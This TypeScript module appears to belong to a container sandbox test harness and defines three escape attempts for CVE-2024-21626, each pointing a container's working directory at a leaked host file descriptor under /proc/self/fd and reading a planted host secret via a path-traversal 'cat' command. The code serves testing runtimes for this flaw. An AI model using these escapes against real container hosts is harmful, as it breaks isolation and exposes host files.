/** Descriptors and working directories of the host that a container may have been left. */
import { spawnSync } from 'node:child_process';
import { closeSync, openSync } from 'node:fs';
import { type Arena, type Attack, shortly } from '../arena.ts';

/** From a directory that is the host's, the way to its secret. */
const wayOut = (arena: Arena) => `cat ../../../../../../../..${arena.outside}/secret`;

export const descriptorAttacks: readonly Attack[] = [
  {
    name: 'begin in a directory of the host: cwd is /proc/self/fd/N',
    known: 'CVE-2024-21626',
    act(arena) {
      const outcomes = Array.from({ length: 18 }, (_, index) =>
        arena.run(`${wayOut(arena)}; cat ./secret`, (spec) => (spec.process.cwd = `/proc/self/fd/${index + 3}`)),
      );
      const escaped = outcomes.some(({ stdout }) => stdout.includes(arena.secret));
      return { escaped, what: escaped ? 'the host was read' : shortly(outcomes[4]!) };
    },
  },
  {
    name: 'the same by exec --cwd',
    known: 'CVE-2024-21626',
    act(arena) {
      const id = arena.start('sleep 1000');
      const outcomes = Array.from({ length: 18 }, (_, index) =>
        arena.sandbox.run(['exec', '--cwd', `/proc/self/fd/${index + 3}`, id, 'sh', '-c', wayOut(arena)]),
      );
      arena.stop(id);
      const escaped = outcomes.some(({ stdout }) => stdout.includes(arena.secret));
      return { escaped, what: escaped ? 'the host was read' : shortly(outcomes[4]!) };
    },
  },
  {
    name: "a descriptor that the runtime's caller has left open",
    known: 'CVE-2024-21626',
    act(arena) {
      const descriptor = openSync(arena.outside, 'r');
      const script = `for f in /proc/self/fd/*; do cat $f/secret 2>/dev/null; done; echo end`;
      const [program = ''] = arena.sandbox.command;
      const { stdout } = spawnSync(
        program,
        ['--root', arena.sandbox.root, 'run', '-b', arena.sandbox.script(script), arena.sandbox.id()],
        { stdio: ['ignore', 'pipe', 'pipe', descriptor, descriptor, descriptor], encoding: 'utf8' },
      );
      closeSync(descriptor);
      return {
        escaped: stdout.includes(arena.secret),
        what: stdout.includes(arena.secret) ? 'the host was read' : stdout === 'end\n' ? 'closed' : 'did not run',
      };
    },
  },
];
